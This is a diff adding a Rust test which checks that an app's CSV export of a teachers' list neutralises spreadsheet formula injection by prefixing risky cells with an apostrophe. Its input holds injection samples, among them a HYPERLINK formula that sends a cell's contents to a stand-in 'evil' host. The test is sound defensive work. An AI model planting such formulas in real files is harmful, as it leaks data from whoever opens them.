@@ -200,3 +200,38 @@ fn a_list_without_identifiant_cas_says_in_the_window_what_cannot_be_checked() {
     );
     assert!(harness.state().notice.as_ref().is_some_and(|n| n.is_error));
 }
+
+#[test]
+fn the_work_list_saved_from_the_window_cannot_run_a_formula() {
+    let files = tempfile::tempdir().unwrap();
+    let config = tempfile::tempdir().unwrap();
+    let list = files.path().join("professeurs.csv");
+    std::fs::write(
+        &list,
+        "Nom;Prénom;Identifiant CAS\n=HYPERLINK(\"http://evil/\"&A1,\"x\");+Léa;@cmd\n",
+    )
+    .unwrap();
+    let mut harness = harness_with(app_on(&list, config.path()));
+    let ctx = harness.ctx.clone();
+    harness.state_mut().apply(
+        &ctx,
+        Command::SetCell {
+            table: 0,
+            row: 0,
+            column: 2,
+            value: "-2+3".to_owned(),
+        },
+    );
+    let out = tempfile::tempdir().unwrap();
+    harness
+        .state_mut()
+        .apply(&ctx, Command::Export(out.path().to_owned()));
+    harness.state_mut().wait_for_save();
+    harness.run();
+    let bytes = std::fs::read(out.path().join("a-faire-dans-pronote.csv")).unwrap();
+    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
+    assert!(text.contains("'=HYPERLINK("), "{text}");
+    assert!(text.contains("'+Léa"), "{text}");
+    assert!(text.contains("'@cmd"), "{text}");
+    assert!(text.contains("'-2+3"), "{text}");
+}
